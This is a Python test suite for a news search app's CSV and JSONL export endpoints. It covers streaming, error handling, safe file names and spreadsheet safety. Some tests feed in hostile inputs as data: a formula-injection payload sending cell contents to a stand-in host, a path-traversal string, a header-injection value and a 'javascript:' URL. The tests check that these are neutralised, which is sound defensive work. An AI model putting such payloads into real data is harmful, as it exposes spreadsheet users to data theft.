"""Searches as files: complete, streamed, harmless in a spreadsheet, and never half a file that looks whole."""

import csv
import io
import json
import logging
import re
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from sample import write_jsonl

from index.build import add, rebuild
from search.engine import Engine
from web.app import create_app
from web.exports import COLUMNS, safe_cell
from web.live import NotReady
from web.schemas import ErrorResponse, Result

MANY = 120
BIDDING = {"=", "+", "-", "@", "−"}


@pytest.fixture
def client(root, load):
    engine = Engine.open(root, load)
    return create_app(lambda: engine, root).test_client()


@pytest.fixture
def large(tmp_path, load):
    """A client of an index of many articles, and its engine."""
    records = [
        {"id": f"a{number}", "title": f"Report {number}", "text": f"Report {number} from the harbour. " * 20,
         "source": "Harbour Wire", "published": "2025-01-01"}
        for number in range(MANY)
    ]  # fmt: skip
    root = tmp_path / "large"
    rebuild(root, [str(write_jsonl(tmp_path / "large.jsonl", records))], load)
    engine = Engine.open(root, load)
    return create_app(lambda: engine, root).test_client(), engine


def rows(response):
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def lines(response):
    assert response.status_code == 200
    return [json.loads(line) for line in response.text.split("\n")[:-1]]


def test_a_table_has_one_row_a_result(client):
    found = rows(client.get("/export.csv?q=ferry&size=1"))
    assert [row["article_id"] for row in found] == ["strike", "ferry"]
    assert tuple(found[0]) == COLUMNS
    first = found[0]
    assert (first["rank"], first["source"], first["language"]) == ("1", "Harbour Wire", "en-CA")
    assert first["authors"] == "Corin Adeyale; Lyra Dunmore"
    assert first["passage_id"].startswith("strike:")
    assert first["best_sentence"] == "The union of ferry deckhands has called off its strike."
    assert first["passage"].startswith(first["best_sentence"])
    assert (first["copies"], first["url"]) == ("0", "")
    assert float(first["score"]) > 0


def test_a_table_is_read_by_spreadsheets_and_by_rfc_4180(client):
    response = client.get("/export.csv?q=after:1900")
    assert response.content_type == "text/csv; charset=utf-8"
    assert response.data.startswith(b"\xef\xbb\xbfrank,")
    text = response.data.decode("utf-8-sig")
    assert text.count("\r\n") == text.count("\n") == 5  # so many rows are so many lines
    assert "Le pont restera fermé" in text


def test_lines_are_results_of_the_api(client):
    asked = {"q": "ferry strike wages", "explain": "true", "as_of": "2025-08-21"}
    found = lines(client.get("/export.jsonl", query_string=asked))
    answer = client.get("/api/v1/search", query_string=asked | {"size": 100}).json
    assert found == answer["results"][: answer["total"]]
    assert found[0]["signals"]
    for line in found:
        Result.model_validate(line)
    assert "signals" not in lines(client.get("/export.jsonl?q=ferry"))[0]


@pytest.mark.parametrize("ending", ["csv", "jsonl"])
@pytest.mark.parametrize("query", ['source:"Harbour Wire"', "harbour report"])
def test_every_match_is_there_whatever_the_page(large, ending, query):
    client, _ = large
    response = client.get(f"/export.{ending}", query_string={"q": query, "page": "5000", "size": "100"})
    found = rows(response) if ending == "csv" else lines(response)
    assert len(found) == MANY
    assert [int(row["rank"]) for row in found] == list(range(1, MANY + 1))


def test_an_export_begins_before_its_end_is_read(large, monkeypatch):
    from search import matches

    client, engine = large
    monkeypatch.setattr(matches, "_READ_AT_ONCE", 10)
    read, articles = [], engine.store.articles
    monkeypatch.setattr(engine.store, "articles", lambda numbers: read.extend(numbers) or articles(numbers))
    response = client.get("/export.jsonl?q=after:1900", buffered=False)
    parts = response.iter_encoded()
    assert next(parts).count(b"\n") == 1
    assert len(read) == 10
    parts_left = list(parts)
    assert len(read) == MANY
    assert 1 < len(parts_left) < MANY / 2  # some kilobytes each


def test_a_client_that_leaves_ends_the_reading(large, monkeypatch):
    from search import matches

    client, engine = large
    monkeypatch.setattr(matches, "_READ_AT_ONCE", 10)
    read, articles = [], engine.store.articles
    monkeypatch.setattr(engine.store, "articles", lambda numbers: read.extend(numbers) or articles(numbers))
    response = client.get("/export.csv?q=after:1900", buffered=False)
    next(response.iter_encoded())
    response.close()
    assert len(read) <= 20


@pytest.mark.parametrize("ending", ["csv", "jsonl"])
def test_what_breaks_off_in_the_middle_does_not_end_like_a_whole_file(large, monkeypatch, caplog, ending):
    client, engine = large
    passages, calls = engine.store.passages, []

    def failing(numbers):
        calls.append(numbers)
        if len(calls) > 2:
            raise RuntimeError("the disk is gone")
        return passages(numbers)

    monkeypatch.setattr("search.matches._READ_AT_ONCE", 10)
    monkeypatch.setattr(engine.store, "passages", failing)
    response = client.get(f"/export.{ending}?q=after:1900", buffered=False)
    assert response.status_code == 200
    with caplog.at_level(logging.ERROR), pytest.raises(RuntimeError):  # by which the web server cuts the connection
        list(response.iter_encoded())
    assert "broke off" in caplog.text


@pytest.mark.parametrize("ending", ["csv", "jsonl"])
@pytest.mark.parametrize(
    ("query", "field"), [("q=", "q"), ("", "q"), ("q=-ferry", "q"), ("q=x&from=soon", "from"), ("q=x&size=0", "size")]
)
def test_a_bad_search_is_an_error_and_no_file(client, ending, query, field):
    for method in (client.get, client.head):
        response = method(f"/export.{ending}?{query}")
        assert response.status_code == 400
        assert "Content-Disposition" not in response.headers
    assert ErrorResponse.model_validate(client.get(f"/export.{ending}?{query}").json).error.field == field


def test_before_the_index_is_open_there_is_no_file(tmp_path):
    def engine():
        raise NotReady("The index is being opened.")

    response = create_app(engine, tmp_path).test_client().get("/export.csv?q=x")
    assert (response.status_code, response.json["error"]["code"]) == (503, "not_ready")


def test_nothing_found_is_a_file_without_rows(client):
    assert rows(client.get('/export.csv?q="purple+walrus"')) == []
    assert client.get('/export.csv?q="purple+walrus"').data.count(b"\n") == 1
    assert client.get('/export.jsonl?q="purple+walrus"').data == b""


def test_asking_for_the_headers_reads_nothing(large, monkeypatch):
    client, engine = large
    monkeypatch.setattr(engine.store, "articles", lambda numbers: pytest.fail("articles were read"))
    response = client.head("/export.csv?q=after:1900")
    assert (response.status_code, response.data) == (200, b"")
    assert response.content_type == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["Content-Disposition"]


@pytest.mark.parametrize(
    ("query", "slug"),
    [
        ("Ferry strike", "ferry-strike"),
        ('after:1900 "../../etc/passwd"', "after-1900-etc-passwd"),
        ('after:1900 évacuation\r\nX-Evil: "1"', "after-1900-evacuation-x-evil-1"),
        ("渡船 罷工", "search"),
        ("ferry " * 30, "ferry-ferry-ferry-ferry-ferry-ferry-ferr"),
    ],
)
def test_the_name_of_a_file_is_safe_everywhere(client, query, slug):
    disposition = client.get("/export.csv", query_string={"q": query}).headers["Content-Disposition"]
    assert re.fullmatch(rf'attachment; filename="dateline-{slug}-\d{{4}}-\d\d-\d\d\.csv"', disposition)


def test_an_article_cannot_make_a_spreadsheet_calculate(root, load, tmp_path):
    attack = '=HYPERLINK("http://evil.example?"&A1, "open")'
    record = {"id": "=1+1", "title": attack, "source": "@SUM(1)", "authors": ["+1", "-2"],
              "text": f"\tZeppelin. {attack}", "url": "javascript:alert(1)", "published": "2025-01-01"}  # fmt: skip
    add(root, [str(write_jsonl(tmp_path / "evil.jsonl", [record]))], load)
    engine = Engine.open(root, load)
    [row] = rows(create_app(lambda: engine, root).test_client().get('/export.csv?q="zeppelin"'))
    assert row["title"] == f"'{attack}"
    assert (row["source"], row["article_id"]) == ("'@SUM(1)", "'=1+1")
    assert row["authors"] == "'+1; '-2"
    assert row["passage_id"].startswith("'=1+1:")
    assert row["rank"] == "1"


@given(st.text(max_size=40))
@example("\u200b=1")
@example("  ＝1")
@example("\ufeff+1")
@example("\x00-1")
@example("\r@x")
@example("a;\t=1")
@example("\x1c=1")
def test_no_cell_is_a_formula_has_a_control_character_or_a_second_line(text):
    cell = safe_cell(text)
    assert not any(unicodedata.category(character) in ("Cc", "Cs") for character in cell)
    assert len(cell.splitlines()) <= 1
    for part in cell.split(";"):
        seen = "".join(one for one in part if not one.isspace() and unicodedata.category(one) not in ("Cf", "Cc"))
        assert unicodedata.normalize("NFKC", seen)[:1] not in BIDDING


@given(st.from_regex(r"[A-Za-z0-9 .,!?'’“”é]+", fullmatch=True))
def test_plain_words_stay_as_they_are(text):
    assert safe_cell(text) == " ".join(text.split())
